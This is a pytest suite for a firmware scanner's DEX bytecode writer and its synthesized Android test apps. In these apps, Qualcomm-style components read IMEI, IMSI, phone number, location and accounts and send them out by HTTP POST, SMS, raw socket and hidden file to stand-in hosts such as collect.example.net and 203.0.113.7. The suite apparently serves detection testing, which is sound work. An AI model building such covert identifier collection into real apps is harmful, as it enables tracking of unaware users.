"""Cross-checks of the DEX writer and of the behaviours planted in synthesized apps.

Every DEX is read back by two independent readers: ``dexdump -d`` (ART's own verifier runs first,
so a file it accepts is structurally valid) and androguard (classes, strings, cross-references).
Nothing is mocked.
"""

from __future__ import annotations

import hashlib
import re
import struct
import subprocess
import zlib
from pathlib import Path

import pytest
from androguard.core.analysis.analysis import Analysis, MethodAnalysis
from androguard.core.dex import DEX
from conftest import need_tool
from loguru import logger

from fwscan.errors import ManifestError
from fwscan.synth.behaviours import IDENTIFIERS, SINKS, Action, Component, build_app_dex
from fwscan.synth.dex import (
    ACC_ABSTRACT,
    ACC_INTERFACE,
    ACC_NATIVE,
    ACC_PRIVATE,
    ACC_PROTECTED,
    ACC_PUBLIC,
    ACC_STATIC,
    DexBuilder,
    FieldRef,
    MethodRef,
)

logger.remove()

STRING = "Ljava/lang/String;"
LOG_D = MethodRef.parse(f"Landroid/util/Log;->d({STRING}{STRING})I")
# Strings whose MUTF-8 form and UTF-16 order differ from plain UTF-8 and code-point order.
EXOTIC = ("h\u00e9llo w\u00f6rld", "nul\0inside", "mark \U0001d11e", "mark \ue000", "\u20ac")

TARGETS: dict[str, str | None] = {
    "http_post": "https://collect.example.net/upload",
    "http_get": "http://collect.example.net/q?d=",
    "sms": "+15550100",
    "display": None,
    "log": "RegTag",
    "socket": "203.0.113.7:8443",
    "file": "/sdcard/.cache/id.txt",
    "broadcast": "com.example.ID_READY",
}
SOURCE_APIS: dict[str, tuple[str, ...]] = {
    "imei": ("Landroid/telephony/TelephonyManager;", "getImei", "()Ljava/lang/String;"),
    "device_id": ("Landroid/telephony/TelephonyManager;", "getDeviceId", "()Ljava/lang/String;"),
    "meid": ("Landroid/telephony/TelephonyManager;", "getMeid", "()Ljava/lang/String;"),
    "iccid": (
        "Landroid/telephony/TelephonyManager;",
        "getSimSerialNumber",
        "()Ljava/lang/String;",
    ),
    "imsi": ("Landroid/telephony/TelephonyManager;", "getSubscriberId", "()Ljava/lang/String;"),
    "phone_number": (
        "Landroid/telephony/TelephonyManager;",
        "getLine1Number",
        "()Ljava/lang/String;",
    ),
    "cell_id": ("Landroid/telephony/gsm/GsmCellLocation;", "getCid", "()I"),
    "lac": ("Landroid/telephony/gsm/GsmCellLocation;", "getLac", "()I"),
    "serial": ("Landroid/os/Build;", "getSerial", "()Ljava/lang/String;"),
    "android_id": (
        "Landroid/provider/Settings$Secure;",
        "getString",
        "(Landroid/content/ContentResolver; Ljava/lang/String;)Ljava/lang/String;",
    ),
    "mac": ("Landroid/net/wifi/WifiInfo;", "getMacAddress", "()Ljava/lang/String;"),
    "location": ("Landroid/location/Location;", "getLatitude", "()D"),
    "installed_apps": (
        "Landroid/content/pm/PackageManager;",
        "getInstalledPackages",
        "(I)Ljava/util/List;",
    ),
    "accounts": (
        "Landroid/accounts/AccountManager;",
        "getAccounts",
        "()[Landroid/accounts/Account;",
    ),
}
SINK_APIS: dict[str, tuple[str, ...]] = {
    "http_post": ("Ljava/net/HttpURLConnection;", "setRequestMethod", "(Ljava/lang/String;)V"),
    "http_get": ("Ljava/net/HttpURLConnection;", "getInputStream", "()Ljava/io/InputStream;"),
    "sms": (
        "Landroid/telephony/SmsManager;",
        "sendTextMessage",
        "(Ljava/lang/String; Ljava/lang/String; Ljava/lang/String; Landroid/app/PendingIntent;"
        " Landroid/app/PendingIntent;)V",
    ),
    "display": ("Landroid/widget/TextView;", "setText", "(Ljava/lang/CharSequence;)V"),
    "log": ("Landroid/util/Log;", "d", "(Ljava/lang/String; Ljava/lang/String;)I"),
    "socket": ("Ljava/io/OutputStream;", "write", "([B)V"),
    "file": ("Ljava/io/FileOutputStream;", "write", "([B)V"),
    "broadcast": ("Landroid/content/Context;", "sendBroadcast", "(Landroid/content/Intent;)V"),
}
NETWORK_OR_SMS = ("Ljava/net/", "Landroid/telephony/SmsManager;")


def dexdump(tmp_path: Path, data: bytes) -> str:
    """The ``dexdump -d`` listing of ``data``; fails the test when dexdump rejects the file."""
    tool = need_tool("dexdump")
    path = tmp_path / "classes.dex"
    path.write_bytes(data)
    proc = subprocess.run(
        [tool, "-d", str(path)], capture_output=True, text=True, errors="replace", check=False
    )
    complaints = [
        line
        for line in (proc.stdout + proc.stderr).splitlines()
        if re.search(r"Failure|Error|Bad", line)
    ]
    assert proc.returncode == 0, proc.stderr
    assert not complaints, complaints
    return proc.stdout


def shown(listing: str, text: str) -> bool:
    """Whether ``listing`` has ``text``, with any register in place of each ``vN``."""
    return re.search(re.sub(r"v\d+", r"v\\d+", re.escape(text)), listing) is not None


def dex_listing(name: str) -> str:
    """How dexdump writes a method reference: ``Lcls;.name:(params)ret``."""
    return name.replace("->", ".", 1).replace("(", ":(", 1)


def analyse(data: bytes) -> tuple[DEX, Analysis]:
    """androguard's parse of ``data`` with cross-references."""
    dex = DEX(data)
    analysis = Analysis(dex)
    analysis.create_xref()
    return dex, analysis


def method(analysis: Analysis, owner: str, name: str) -> MethodAnalysis:
    """The one internal method ``owner->name``."""
    found = [
        m
        for m in analysis.find_methods(
            classname=re.escape(owner), methodname=f"^{re.escape(name)}$"
        )
        if not m.is_external()
    ]
    assert len(found) == 1, (owner, name, found)
    return found[0]


def calls(ma: MethodAnalysis) -> set[tuple[str, str, str]]:
    """The (class, name, descriptor) of every method ``ma`` calls."""
    return {(m.class_name, m.name, m.descriptor) for _, m, _ in ma.get_xref_to()}


def check_header(data: bytes) -> None:
    """Magic, size, checksum and signature, recomputed from the bytes."""
    assert data[:8] == b"dex\n035\x00"
    checksum, signature = struct.unpack_from("<I20s", data, 8)
    assert checksum == zlib.adler32(data[12:])
    assert signature == hashlib.sha1(data[32:]).digest()
    file_size, header_size, endian = struct.unpack_from("<3I", data, 32)
    assert (file_size, header_size, endian) == (len(data), 0x70, 0x12345678)
    data_size, data_off = struct.unpack_from("<2I", data, 104)
    assert data_off + data_size == len(data)


# a general DEX, made with the builder API


def general_dex(far_nops: int = 33_000) -> bytes:
    """Interfaces, abstract and native methods, fields of every kind, wide values, all forms.

    The subclass is defined before its superclass and interface, so the writer must reorder.
    """
    dex = DexBuilder()
    child = dex.add_class(
        "Lcom/example/Child;", superclass="Lcom/example/Base;", source_file="Child.java"
    )
    base = dex.add_class(
        "Lcom/example/Base;",
        access=ACC_PUBLIC | ACC_ABSTRACT,
        interfaces=("Lcom/example/Greeter;", "Ljava/lang/Runnable;"),
    )
    greeter = dex.add_class(
        "Lcom/example/Greeter;", access=ACC_PUBLIC | ACC_INTERFACE | ACC_ABSTRACT
    )
    greeter.declare_method("greet", (STRING,), "V", ACC_PUBLIC | ACC_ABSTRACT)
    count = base.add_field("COUNT", "I", ACC_PUBLIC | ACC_STATIC)
    label = base.add_field("LABEL", STRING, ACC_PUBLIC | ACC_STATIC)
    name = base.add_field("name", STRING, ACC_PROTECTED)
    total = base.add_field("total", "J", ACC_PROTECTED)
    flag = base.add_field("flag", "Z", ACC_PROTECTED)
    base.declare_method("hash", ("[B",), "I", ACC_PUBLIC | ACC_STATIC | ACC_NATIVE)
    base.declare_method("describe", (), STRING, ACC_PUBLIC | ACC_ABSTRACT)
    init = base.add_method("<init>", (), "V", ACC_PROTECTED)
    init.invoke("direct", MethodRef.parse("Ljava/lang/Object;-><init>()V"), init.this)
    init.return_void()

    init = child.add_method("<init>", (), "V")
    init.invoke("direct", MethodRef("Lcom/example/Base;", "<init>", (), "V"), init.this)
    init.return_void()

    # static long sum(int, long, int, double, int, int, int): ten argument words
    sum_code = child.add_method("sum", ("I", "J", "I", "D", "I", "I", "I"), "J", ACC_STATIC)
    sum_code.return_value(sum_code.param(1))
    describe = child.add_method("describe", (), STRING)
    text = describe.local()
    describe.sget(text, label)
    describe.return_object(text)

    greet = child.add_method("greet", (STRING,), "V")
    regs = [greet.local(), greet.local(wide=True), greet.local()]
    number, wide, other = regs
    greet.const(number, 7)
    greet.const(number, -8)
    greet.const(number, 1000)
    greet.const(number, -100_000)
    greet.sput(number, count)
    greet.sget(number, count)
    greet.const(number, 1)
    greet.iput(greet.param(0), greet.this, name)
    greet.iget(other, greet.this, name)
    greet.iput(number, greet.this, flag)
    greet.if_zero("eq", other, "skip")
    for value in EXOTIC:
        greet.const_string(other, value)
    greet.label("skip")
    greet.invoke("static", MethodRef.parse("Ljava/lang/System;->currentTimeMillis()J"))
    greet.move_result(wide)
    greet.iput(wide, greet.this, total)
    greet.iget(wide, greet.this, total)
    greet.move(number, number)
    greet.move_object(other, greet.param(0))
    greet.goto("end")
    for _ in range(200):
        greet.nop()
    greet.label("end")
    greet.invoke("virtual", MethodRef("Lcom/example/Child;", "run", (), "V"), greet.this)
    greet.return_void()

    run = child.add_method("run", (), "V")
    args = [run.local(wide=t in "JD") for t in ("I", "J", "I", "D", "I", "I", "I")]
    for reg in args:
        if not reg.wide:
            run.const(reg, 3)
    run.invoke("static", MethodRef.parse("Ljava/lang/System;->nanoTime()J"))
    run.move_result(args[1])
    run.invoke("static", MethodRef.parse("Ljava/lang/Math;->random()D"))
    run.move_result(args[3])
    run.label("again")
    run.invoke("static", sum_code.ref, *args)
    run.move_result(args[1])
    run.if_zero("ne", args[0], "again")
    run.return_void()

    # twenty locals: the last ones need the 8- and 16-bit register forms
    high = child.add_method("high", (), "V", ACC_PRIVATE)
    many = [high.local() for _ in range(20)]
    high.const_string(many[0], "low")
    high.const(many[19], 1)
    high.const_string(many[18], "tag")
    high.move_object(many[19], many[0])
    high.const_string(many[19], "high")
    high.invoke("static", LOG_D, many[18], many[19])
    high.move_result(many[17])
    high.return_void()

    far = child.add_method("far", (), "V", ACC_PRIVATE | ACC_STATIC)
    far.goto("out")
    for _ in range(far_nops):
        far.nop()
    far.label("out")
    far.return_void()
    return dex.to_bytes()


def test_general_dex_is_accepted_by_dexdump(tmp_path: Path) -> None:
    data = general_dex()
    check_header(data)
    listing = dexdump(tmp_path, data)
    order = re.findall(r"Class descriptor\s*: '([^']+)'", listing)
    assert order == ["Lcom/example/Greeter;", "Lcom/example/Base;", "Lcom/example/Child;"]
    for expected in (
        "invoke-static/range {v0, v1, v2, v3, v4, v5, v6, v7, v8}, "
        "Lcom/example/Child;.sum:(IJIDIII)J",
        "invoke-static/range {v18, v19}, Landroid/util/Log;.d:",
        "move-object/from16 v19, v0",
        "const/16 v19, #int 1",
        "const/4 v0, #int 7",
        "const/4 v0, #int -8",
        "const/16 v0, #int 1000",
        "const v0, #float",
        "goto/16",
        "goto/32",
        "if-nez v0, 000d // -0004",
        "sput v0, Lcom/example/Base;.COUNT:I",
        "sget-object v0, Lcom/example/Base;.LABEL:Ljava/lang/String;",
        "iput-object v5, v4, Lcom/example/Base;.name:Ljava/lang/String;",
        "iput-wide v1, v4, Lcom/example/Base;.total:J",
        "iget-wide v1, v4, Lcom/example/Base;.total:J",
        "iput-boolean v0, v4, Lcom/example/Base;.flag:Z",
        "move-result-wide v1",
        "return-wide v1",
        'const-string v3, "h',
        "access        : 0x0109 (PUBLIC STATIC NATIVE)",
        "access        : 0x0401 (PUBLIC ABSTRACT)",
    ):
        assert expected in listing, expected
    assert "Interfaces        -\n    #0              : 'Lcom/example/Greeter;'" in listing
    assert "source_file_idx   : " in listing
    assert "(Child.java)" in listing


def test_general_dex_is_read_by_androguard() -> None:
    data = general_dex(far_nops=10)
    dex, analysis = analyse(data)
    assert [c.get_name() for c in dex.get_classes()] == [
        "Lcom/example/Greeter;",
        "Lcom/example/Base;",
        "Lcom/example/Child;",
    ]
    child = dex.get_class("Lcom/example/Child;")
    assert child.get_superclassname() == "Lcom/example/Base;"
    assert {m.get_name() for m in child.get_methods()} == {
        "<init>",
        "sum",
        "describe",
        "greet",
        "run",
        "high",
        "far",
    }
    base = dex.get_class("Lcom/example/Base;")
    assert set(base.get_interfaces()) == {"Lcom/example/Greeter;", "Ljava/lang/Runnable;"}
    assert {f.get_name() for f in base.get_fields()} == {"COUNT", "LABEL", "name", "total", "flag"}
    assert set(EXOTIC) <= set(dex.get_strings())
    assert ("Lcom/example/Child;", "sum", "(I J I D I I I)J") in calls(
        method(analysis, "Lcom/example/Child;", "run")
    )


def test_string_jumbo_past_65536_strings(tmp_path: Path) -> None:
    dex = DexBuilder()
    cls = dex.add_class("Lcom/example/Strings;")
    values = [f"s{i:06d}" for i in range(70_000)]
    for chunk in range(7):
        code = cls.add_method(f"load{chunk}", (), "V", ACC_STATIC)
        reg = code.local()
        for value in values[chunk * 10_000 : (chunk + 1) * 10_000]:
            code.const_string(reg, value)
        code.return_void()
    data = dex.to_bytes()
    check_header(data)
    listing = dexdump(tmp_path, data)
    assert 'const-string v0, "s000000" // string@' in listing
    assert re.search(r'const-string/jumbo v0, "s069999" // string@0+1[0-9a-f]{4}\b', listing)
    parsed = DEX(data)
    assert set(values) <= set(parsed.get_strings())
    last = next(m for m in parsed.get_encoded_methods() if m.get_name() == "load6")
    names = {i.get_name() for i in last.get_instructions()}
    assert "const-string/jumbo" in names


# planted behaviours


def app_parts(via_helper: bool) -> tuple[list[Component], list[Action]]:
    """One component of each kind, every sink reading every identifier, and the extras."""
    components = [
        Component("com.qualcomm.qti.autoregistration.MainActivity", "android.app.Activity"),
        Component("com.qualcomm.qti.autoregistration.RegistrationService", "android.app.Service"),
        Component("com.qualcomm.qti.autoregistration.RegApp", "android.app.Application"),
        Component(
            "com.qualcomm.qti.autoregistration.BootReceiver", "android.content.BroadcastReceiver"
        ),
    ]
    service = "com.qualcomm.qti.autoregistration.RegistrationService"
    actions = [
        Action(
            service,
            f"send_{sink}",
            reads=IDENTIFIERS,
            sink=sink,
            target=TARGETS[sink],
            via_helper=via_helper,
        )
        for sink in SINKS
    ]
    actions += [
        Action(
            "com.qualcomm.qti.autoregistration.MainActivity",
            "keep",
            reads=("imei", "location"),
            strings=("https://www.example.com/help",),
            load_library="regjni",
            via_helper=via_helper,
        ),
        Action(
            "com.qualcomm.qti.autoregistration.BootReceiver",
            "onBoot",
            reads=("serial",),
            sink="log",
            target="Boot",
        ),
        Action("com.vendor.util.Collector", "collect", reads=("mac",), sink="file", target="/x"),
    ]
    return components, actions


@pytest.mark.parametrize("via_helper", [False, True], ids=["inline", "via_helper"])
def test_app_dex_is_accepted_by_dexdump(tmp_path: Path, via_helper: bool) -> None:
    components, actions = app_parts(via_helper)
    data = build_app_dex(components, actions)
    check_header(data)
    assert build_app_dex(components, actions) == data
    listing = dexdump(tmp_path, data)
    for owner, name, descriptor in (*SOURCE_APIS.values(), *SINK_APIS.values()):
        assert f"{owner}.{name}:{descriptor.replace(' ', '')}" in listing, name
    for spec in (
        "Landroid/content/Context;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;",
        "Landroid/location/Location;->getLongitude()D",
        "Landroid/net/wifi/WifiManager;->getConnectionInfo()Landroid/net/wifi/WifiInfo;",
        "Landroid/accounts/AccountManager;->get(Landroid/content/Context;)"
        "Landroid/accounts/AccountManager;",
        "Ljava/net/URL;-><init>(Ljava/lang/String;)V",
        "Ljava/net/HttpURLConnection;->getOutputStream()Ljava/io/OutputStream;",
        "Ljava/lang/String;->getBytes()[B",
        "Ljava/net/Socket;-><init>(Ljava/lang/String;I)V",
        "Ljava/lang/System;->loadLibrary(Ljava/lang/String;)V",
        "Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V",
        "Landroid/app/Service;->onCreate()V",
        "Landroid/app/Application;->onCreate()V",
        "Lcom/qualcomm/qti/autoregistration/BootReceiver;->onBoot(Landroid/content/Context;)V",
    ):
        assert dex_listing(spec) in listing, spec
    for check in (
        "check-cast v3, Landroid/telephony/TelephonyManager;",
        "check-cast v1, Landroid/telephony/gsm/GsmCellLocation;",
        "check-cast v1, Ljava/net/HttpURLConnection;",
        "invoke-virtual/range {",
        "if-eqz v1, ",
        "const/16 v4, #int 8443",
        'const-string v2, "203.0.113.7"',
        'const-string v2, "android_id"',
        'const-string v2, "phone"',
        'const-string v2, "wifi"',
        'const-string v2, "location"',
        'const-string v2, "POST"',
        '"https://www.example.com/help"',
        '"regjni"',
        "access        : 0x0102 (PRIVATE NATIVE)",
        "'nativeKeep'",
    ):
        assert shown(listing, check), check
    for sink, target in TARGETS.items():
        if target is not None:
            loaded = target.rpartition(":")[0] if sink == "socket" else target
            assert re.search(rf'const-string v\d+, "{re.escape(loaded)}"', listing), sink


@pytest.mark.parametrize("via_helper", [False, True], ids=["inline", "via_helper"])
def test_app_dex_cross_references(via_helper: bool) -> None:
    components, actions = app_parts(via_helper)
    dex, analysis = analyse(build_app_dex(components, actions))
    service = "Lcom/qualcomm/qti/autoregistration/RegistrationService;"
    assert {c.get_name() for c in dex.get_classes()} == {
        "Lcom/qualcomm/qti/autoregistration/MainActivity;",
        f"{service}",
        "Lcom/qualcomm/qti/autoregistration/RegApp;",
        "Lcom/qualcomm/qti/autoregistration/BootReceiver;",
        "Lcom/vendor/util/Collector;",
    }
    assert dex.get_class(service).get_superclassname() == "Landroid/app/Service;"
    lifecycle = calls(method(analysis, service, "onCreate"))
    sources = {tuple(api) for api in SOURCE_APIS.values()}
    for sink in SINKS:
        entry = f"send_{sink}"
        assert (service, entry, "(Landroid/content/Context;)V") in lifecycle
        if via_helper:
            assert calls(method(analysis, service, entry)) == {
                (service, f"{entry}$deliver", "(Landroid/content/Context;)V")
            }
            deliver = calls(method(analysis, service, f"{entry}$deliver"))
            assert (
                service,
                f"{entry}$collect",
                "(Landroid/content/Context;)Ljava/lang/String;",
            ) in (deliver)
            assert SINK_APIS[sink] in deliver
            assert not sources & deliver
            assert sources <= calls(method(analysis, service, f"{entry}$collect"))
        else:
            found = calls(method(analysis, service, entry))
            assert sources <= found
            assert SINK_APIS[sink] in found
    activity = "Lcom/qualcomm/qti/autoregistration/MainActivity;"
    keeper = method(analysis, activity, "keep$deliver" if via_helper else "keep")
    assert any(f.get_name() == "keep$value" for _, f, _ in keeper.get_xref_write())
    assert "https://www.example.com/help" in set(dex.get_strings())
    receiver = "Lcom/qualcomm/qti/autoregistration/BootReceiver;"
    assert (receiver, "onBoot", "(Landroid/content/Context;)V") in calls(
        method(analysis, receiver, "onReceive")
    )
    assert calls(method(analysis, service, "onBind")) == set()


def test_display_action_touches_no_network_or_sms(tmp_path: Path) -> None:
    action = Action(
        "com.example.Show", "show", reads=IDENTIFIERS, sink="display", strings=("plain",)
    )
    data = build_app_dex([Component("com.example.Show", "android.app.Activity")], [action])
    listing = dexdump(tmp_path, data)
    dex, analysis = analyse(data)
    for prefix in NETWORK_OR_SMS:
        assert prefix not in listing
        assert not any(s.startswith(prefix) for s in dex.get_strings())
    found = calls(method(analysis, "Lcom/example/Show;", "show"))
    assert SINK_APIS["display"] in found
    assert not any(owner.startswith(NETWORK_OR_SMS) for owner, _, _ in found)


def test_general_dex_is_deterministic() -> None:
    assert general_dex(far_nops=10) == general_dex(far_nops=10)


# refusals


def test_limits_and_invalid_input_are_refused() -> None:
    dex = DexBuilder()
    cls = dex.add_class("Lcom/example/Big;")
    for i in range(0x10000):
        cls.add_field(f"f{i}", "I")
    with pytest.raises(ManifestError, match="at most 65535 fields"):
        dex.to_bytes()

    dex = DexBuilder()
    code = dex.add_class("Lcom/example/Regs;").add_method("m", (), "V")
    regs = [code.local() for _ in range(17)]
    code.iput(regs[16], regs[0], FieldRef.parse("Lcom/example/Regs;->x:I"))
    code.return_void()
    with pytest.raises(ManifestError, match="4-bit"):
        dex.to_bytes()

    dex = DexBuilder()
    code = dex.add_class("Lcom/example/Fall;").add_method("m", (), "V")
    code.nop()
    with pytest.raises(ManifestError, match="does not end"):
        dex.to_bytes()

    with pytest.raises(ManifestError, match="arguments do not match"):
        code.invoke("static", LOG_D, code.local())
    with pytest.raises(ManifestError, match="invalid parameter list"):
        MethodRef.parse("Lcom/a/B;->m(Q)V")
    with pytest.raises(ManifestError, match="reads: unknown identifier"):
        Action("com.a.B", "m", reads=("gps",))
    with pytest.raises(ManifestError, match="target"):
        Action("com.a.B", "m", sink="http_post", target="ftp://x")
    with pytest.raises(ManifestError, match="target"):
        Action("com.a.B", "m", sink="socket", target="host:99999")
    with pytest.raises(ManifestError, match="superclass"):
        Component("com.a.B", "android.content.ContentProvider")
    with pytest.raises(ManifestError, match="listed twice"):
        build_app_dex([], [Action("com.a.B", "m"), Action("com.a.B", "m")])
